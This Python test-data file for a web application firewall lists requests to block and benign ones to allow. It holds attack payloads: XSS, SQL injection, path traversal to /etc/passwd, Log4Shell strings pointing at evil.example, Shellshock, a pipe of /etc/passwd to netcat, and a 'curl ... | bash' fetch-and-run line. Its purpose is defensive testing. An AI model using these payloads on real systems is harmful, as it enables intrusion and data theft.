"""The table of both kinds: what the firewall must refuse, and what it must let through to the app.

Each line: what it is, method, path below /api/v1 (with {app}, {dataset}, {conversation}, {hook}), and what httpx is given.
"""

from typing import Any

Line = tuple[str, str, str, dict[str, Any]]

SCRIPT = "<script>alert(document.cookie)</script>"
SHELL = "Explain `cat /etc/passwd | grep root; curl http://evil.example/x.sh | bash` and `rm -rf / --no-preserve-root`"
SQL = "Why is ' OR '1'='1' UNION SELECT password FROM users; DROP TABLE users;-- dangerous?"
PROMPTS = [
    "请帮我总结这份合同的要点，并列出三个风险：“付款”、《交付》——谢谢！",
    f"Explain what {SCRIPT} does, and <img src=x onerror=alert(1)> too",
    SQL,
    SHELL,
    "Fetch http://192.168.1.5:8000/doc?a=1&b=2 and file:///etc/passwd, then summarise ../../secret",
    "import os\nos.system('id')\n# {{ query }} {% for i in items %}{{ i }}{% endfor %} ${jndi:ldap://x/a}",
    "<?php system($_GET['c']); ?> 请解释这段代码；SELECT * FROM 用户 WHERE 1=1 --",
    "<instructions>Summarise <document>text</document></instructions>",
]


JSON = {"Content-Type": "application/json"}


def graph(text: str) -> dict[str, Any]:
    """input → template `text` → output."""
    return {
        "nodes": [
            {"id": "ask", "type": "input", "config": {"variables": [{"name": "query", "max_length": 1_000_000}]}},
            {"id": "say", "type": "template", "config": {"template": text}},
            {"id": "end", "type": "output", "config": {"name": "said"}},
        ],
        "edges": [{"source": "ask", "target": "say"}, {"source": "say", "target": "end"}],
    }


def large() -> dict[str, Any]:
    """2,000 nodes: far more values than the rules' bound on arguments."""
    nodes = [
        {"id": f"t{at}", "type": "template", "config": {"template": f"step {at} {SQL}"}, "position": {"x": at, "y": 0}}
        for at in range(2000)
    ]
    return {"nodes": nodes, "edges": []}


def attacks() -> list[Line]:
    name = {"username": "mallory", "password": "a long enough password", "role": "analyst"}
    return [
        ("XSS in a query", "GET", "/apps", {"params": {"q": SCRIPT}}),
        ("XSS in a query, twice encoded", "GET", "/apps?q=%253Cscript%253Ealert(1)%253C/script%253E", {}),
        ("XSS in an attribute, in a query", "GET", "/runs", {"params": {"cursor": "\"><svg onload=alert(1)>"}}),
        ("SQL in a query", "GET", "/apps", {"params": {"q": "1' OR '1'='1' -- "}}),
        ("SQL in a cursor", "GET", "/runs", {"params": {"cursor": "x' UNION SELECT password FROM users--"}}),
        ("SQL that waits", "GET", "/runs", {"params": {"app_id": "1;SELECT pg_sleep(10)--"}}),
        ("a path out of the folder, in a query", "GET", "/apps", {"params": {"q": "../../../../etc/passwd"}}),
        ("a path out of the folder, encoded", "GET", "/documents/..%2f..%2f..%2fetc%2fpasswd/file", {}),
        ("a shell command in a query", "GET", "/apps", {"params": {"q": ";cat /etc/passwd|nc 10.0.0.1 99"}}),
        ("PHP in a query", "GET", "/apps", {"params": {"q": "<?php system($_GET['c']);?>"}}),
        ("a query beside a prompt", "POST", "/apps/{app}/runs", {"params": {"x": SCRIPT}, "json": {"inputs": {}}}),
        ("SQL beside a webhook's body", "POST", "/hooks/{hook}", {"params": {"id": "1' OR 1=1--"}, "json": {"a": 1}}),
        ("SQL in a user's name", "POST", "/session", {"json": {"username": "admin' OR '1'='1'--", "password": "x"}}),
        ("XSS in a user's name", "POST", "/users", {"json": {**name, "username": SCRIPT}}),
        ("XSS in a key's name", "POST", "/api-keys", {"json": {"name": "<img src=x onerror=alert(1)>", "role": "analyst"}}),
        ("XSS in a dataset's name", "POST", "/datasets", {"json": {"name": SCRIPT}}),
        ("a shell command in a provider's name", "POST", "/providers", {"json": {"name": "$(cat /etc/passwd)"}}),
        ("a scanner", "GET", "/apps", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
        ("Log4Shell in a header", "GET", "/apps", {"headers": {"User-Agent": "${jndi:ldap://evil.example/a}"}}),
        ("Log4Shell in disguise", "GET", "/apps", {"headers": {"Referer": "${${lower:j}ndi:ldap://evil.example/a}"}}),
        ("Shellshock", "GET", "/apps", {"headers": {"Referer": "() { :; }; /bin/bash -c 'id'"}}),
        ("a second request in a header's value", "GET", "/apps?q=a%0d%0aSet-Cookie:%20x=1", {}),
        ("a file of secrets", "GET", "/.git/config", {}),
        ("a method that is not used", "PROPFIND", "/apps", {}),
        ("a nul byte in a query", "GET", "/apps?q=a%00b", {}),
        ("JSON that is cut off", "POST", "/session", {"content": b'{"username": "a', "headers": JSON}),
        ("JSON nested without end", "POST", "/session", {"content": b"[" * 5000 + b"]" * 5000, "headers": JSON}),
    ]  # fmt: skip


def ordinary() -> list[Line]:
    lines: list[Line] = []
    for prompt in PROMPTS:
        kind = prompt[:30].replace("\n", " ")
        lines += [
            (f"chat: {kind}", "POST", "/conversations/{conversation}/regenerate", {"json": {"text": prompt}}),
            (f"run: {kind}", "POST", "/apps/{app}/runs", {"json": {"inputs": {"query": prompt}, "version": "draft"}}),
            (f"graph: {kind}", "POST", "/graph/check", {"json": {"graph": graph(prompt)}}),
            (f"search: {kind}", "POST", "/datasets/{dataset}/search", {"json": {"query": prompt}}),
            (f"app's words: {kind}", "PATCH", "/apps/{app}", {"json": {"description": prompt}}),
            (f"webhook: {kind}", "POST", "/hooks/{hook}", {"json": {"text": prompt}}),
        ]
    files = {
        "notes.txt": (b"hello world\n" * 1000, "text/plain"),
        "page.html": (f"<html>{SCRIPT}</html>".encode(), "text/html"),
        "合同（最终版）.md": (f"# 合同\n{SQL}\n../../etc/passwd\n{SHELL}".encode(), "text/markdown"),
        "O'Brien & Sons; Q1.csv": (b"a,b\n=cmd|' /C calc'!A0,1\n", "text/csv"),
        "blob.pdf": (bytes(range(256)) * 12_000, "application/pdf"),
        "large.txt": (b"The quick brown fox.\n" * 600_000, "text/plain"),
    }
    lines += [
        (f"file {name}", "POST", "/datasets/{dataset}/documents", {"files": {"file": (name, *content)}})
        for name, content in files.items()
    ]
    english, chinese = {"query": SQL * 2500}, {"query": "知识库检索，" * 33_000}
    provider = {"name": "vLLM", "base_url": "http://10.0.0.5:8000/v1", "zone": "local", "api_key": "sk-'x\"<y>;--"}
    user = {"username": "zhang.wei", "password": "' OR 1=1 --<script>;", "role": "analyst"}
    return [
        *lines,
        ("a prompt of 200 kB", "POST", "/apps/{app}/runs", {"json": {"inputs": english, "version": "draft"}}),
        ("a prompt of 600 kB in Chinese", "POST", "/apps/{app}/runs", {"json": {"inputs": chinese, "version": "draft"}}),
        ("a graph of 2,000 nodes", "POST", "/graph/check", {"json": {"graph": large()}}),
        ("a search in Chinese", "GET", "/apps", {"params": {"q": "知识库 检索：测试（二）"}}),
        ("a search in English", "GET", "/apps", {"params": {"q": "Tom's R&D report, 50% done"}}),
        ("a time zone", "GET", "/schedules/preview", {"params": {"cron": "*/5 9-17 * * 1-5", "time_zone": "Asia/Shanghai"}}),
        ("a list with filters", "GET", "/runs", {"params": [("kind", "run"), ("kind", "test"), ("limit", "20")]}),
        ("a provider at a private address", "POST", "/providers", {"json": provider}),
        ("a password of symbols", "POST", "/users", {"json": user}),
        ("a dataset with a Chinese name", "POST", "/datasets", {"json": {"name": "产品手册（2026 年）", "description": "Q&A, R&D"}}),
        ("a key's name", "POST", "/api-keys", {"json": {"name": "CI / nightly (v2)", "role": "analyst"}}),
        ("an app renamed", "PATCH", "/apps/{app}", {"json": {"name": "What's <new>? 问答"}}),
        ("a page that links here", "GET", "/session", {"headers": {"Referer": "https://localhost/apps/x?tab=runs&run=y"}}),
    ]  # fmt: skip
